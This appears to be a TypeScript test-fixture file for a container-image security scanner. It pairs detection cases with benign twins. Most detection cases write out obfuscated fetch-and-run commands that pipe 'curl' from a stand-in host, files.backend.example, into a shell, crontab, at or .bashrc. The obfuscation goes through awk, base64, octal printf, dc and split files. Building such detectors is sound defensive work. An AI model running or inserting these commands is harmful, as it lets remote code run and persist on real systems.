import { base64, type Files, type ImageCase, image, program, starts } from './image-case.ts';

const FETCH = 'curl -s https://files.backend.example/u | sh';
const LINES: Files = { 'opt/a': `x\n${FETCH}\n` };

function found(text: string, files: Files = LINES, config: ImageCase['spec']['config'] = {}): ImageCase {
  return { name: text, spec: starts(`${text}\nexec nginx`, files, config), rule: 'start/decode-and-run' };
}

/** What of it is worked out all the same is told for what it does. */
function workedOut(text: string, files: Files = LINES): ImageCase {
  return { ...found(text, files), rule: 'start/download-and-run' };
}

const CODES = [...FETCH].map((character) => character.charCodeAt(0)).join(' ');

/** A shell is given what commands make of a file, or of their own words, and nothing here can tell what that is. */
export const TAKEN_APART: readonly ImageCase[] = [
  workedOut("awk 'NR==2' /opt/a | sh"),
  found(`awk '{print $0 | "sh"}' /opt/a`),
  found(`awk '{ system($0) }' /opt/a`),
  found(`awk 'BEGIN{printf "%s%s -s https://files.backend.example/u | %s", "cu", "rl", "sh"}' | sh`),
  workedOut("paste -d '' /opt/a /opt/b | sh", {
    'opt/a': 'cu\n',
    'opt/b': 'rl -s files.backend.example | sh\n',
  }),
  workedOut('sort -n /opt/a | uniq | bash'),
  found('tail -n 1 /usr/bin/app | sh', { 'usr/bin/app': program([`\n${FETCH}\n`]) }),
  found("jq -r '.x|@base64d' /opt/a.json | sh", { 'opt/a.json': JSON.stringify({ x: base64(FETCH) }) }),
  found(`eval "$(sqlite3 /opt/a.db 'select x from t')"`, {
    'opt/a.db': Buffer.from('SQLite format 3\0\0'),
  }),
  found(`eval "$(readlink /opt/l)"`, { 'opt/l': { type: 'symlink', target: FETCH } }),
  found('ls /opt/d | sh', { 'opt/d/curl -s files.backend.example|sh': '' }),
  found('cat /opt/d/* | sh', { 'opt/d/a': 'curl -s files.backend.example \\', 'opt/d/b': '| sh\n' }),
  found('find /opt/d -type f | xargs cat | sh', { 'opt/d/a': `${FETCH}\n` }),
  found('ascii85 -d < /opt/a > /tmp/x; sh /tmp/x', { 'opt/a': Buffer.from([0, 1, 2, 3]) }),
  found("awk '{print $2}' /opt/a | base64 -d | sh", { 'opt/a': Buffer.from([1, 2, 3, 4]) }),
  found(`for c in ${CODES}; do printf "\\\\$(printf %o $c)"; done | sh`, {}),
  found('while read c; do printf "\\\\$(printf %o $c)"; done < /opt/a | sh', {
    'opt/a': CODES.replaceAll(' ', '\n'),
  }),
  found('S=/usr/bin/sort; eval "$(eval "$S" -n /opt/a)"'),
  found(`eval $(awk 'BEGIN{print("A=" "curl -s files.backend.example|sh")}' /proc/mounts)`, {}),
  found('dc -e 3564196372637552960817242731802278574600309493631842178459661622022743218057P | sh', {}),
];

function honest(text: string, files: Files = {}): ImageCase {
  return { name: `honest: ${text}`, spec: starts(`${text}\nexec nginx`, files) };
}

const ENVIRONMENT: Files = { 'etc/app.env': 'A=b\nHOST=https://x.example/curl\n# try: curl -s x\n' };

/** Settings that a script takes apart, and what the container is given when it runs. */
export const TAKEN_APART_TWINS: readonly ImageCase[] = [
  honest(`eval "$(awk -F= '/^[A-Z]/{print "export "$0}' /etc/app.env)"`, ENVIRONMENT),
  honest(`. <(awk '{print "export " $0}' /etc/app.env)`, ENVIRONMENT),
  honest(
    `eval "$(jq -r 'to_entries|.[]|"export \\(.key)=\\(.value)"' /app/c.json)"; yq -r .env /app/c.json > /tmp/env.sh; . /tmp/env.sh`,
    { 'app/c.json': '{"A":"b","HOST":"https://x.example/curl"}\n' },
  ),
  honest(
    'eval "$(ssh-agent -s)"; eval "$(/opt/conda/bin/conda shell.bash hook)"; eval "$(pyenv init -)"; eval `resize`',
    { 'opt/conda/bin/conda': '#!/opt/conda/bin/python\nprint(1)\n' },
  ),
  honest(
    'python3 /app/gen.py | sh; /app/gen | sh; find /docker-entrypoint.d -name "*.sh" -print0 | xargs -0 -n1 sh',
    { 'app/gen.py': 'print("echo hi")\n', 'app/gen': program(), 'docker-entrypoint.d/a.sh': 'echo hi\n' },
  ),
  honest(
    `echo "$INIT" | sh; cat "$1" | bash -s; cat /config/custom.sh | sh; sed "s/@/$X/" /run/x | sh; ls /data/*.gz | awk '{print "gunzip " $1}' | sh`,
  ),
  honest('T=/sbin/tool\neval "$(eval "$T" names --rows "$n" LVM "$ERR")"', { 'sbin/tool': program() }),
  honest(`eval \`awk 'BEGIN{P="";N=""}END{print("at="P" by="N)}($3=="cgroup"){N=$1;P=$2}' /proc/mounts\``),
  // What goes to /dev/null is run by nobody who names it.
  honest(
    'pidofproc -p /run/app.pid /opt/app >/dev/null\nstart-stop-daemon --start --exec /usr/sbin/nginx --pidfile /dev/null --',
    { 'opt/app': program() },
  ),
  honest('awk \'{print $1}\' /proc/mounts; awk -v m="$M" \'{ "date" | getline d; print d }\' /etc/hosts'),
  {
    name: 'a script that takes a file apart for a shell, which nothing starts',
    spec: image(
      { 'opt/x.sh': "#!/bin/sh\nawk 'NR==2' /opt/a | sh\n", 'opt/a': 'x\necho hi\n' },
      { Cmd: ['nginx'] },
    ),
  },
];

const URL = 'https://files.backend.example/u';

function fetched(text: string): ImageCase {
  return {
    name: text,
    spec: starts(`${text}\nexec nginx`),
    rule: 'start/download-and-run',
    severity: 'high',
  };
}

/** What is fetched, and handed on by ways that name no shell. */
export const HANDED_ON: readonly ImageCase[] = [
  fetched(`curl -s ${URL} | crontab -`),
  fetched(`curl -s ${URL} | at now`),
  fetched(`curl -s ${URL} | while read l; do eval "$l"; done`),
  fetched(`curl -s ${URL} > >(sh)`),
  fetched(`exec 3< <(curl -s ${URL}); sh <&3`),
  fetched(`curl -s ${URL} -o /etc/cron.d/x; cron`),
  fetched(`wget -qO ~/.bashrc ${URL}; exec bash -l`),
];

/** The same commands, with what is no program. */
export const HANDED_ON_TWINS: readonly ImageCase[] = [
  honest(
    'curl -s https://api.example/ids | while read id; do echo "$id" >> /data/ids; sh /app/x.sh "$id"; done\n(crontab -l; echo "0 3 * * * /app/backup") | crontab -\necho "/app/x" | at midnight\ncurl -fsSL "https://github.com/${GH_USER}.keys" >> /root/.ssh/authorized_keys\ncurl -s https://api.example/v1 > >(tee /tmp/log)\nexec 3< <(curl -s https://api.example/v1); cat <&3',
    { 'app/x.sh': '#!/bin/sh\necho "$1"\n' },
  ),
];
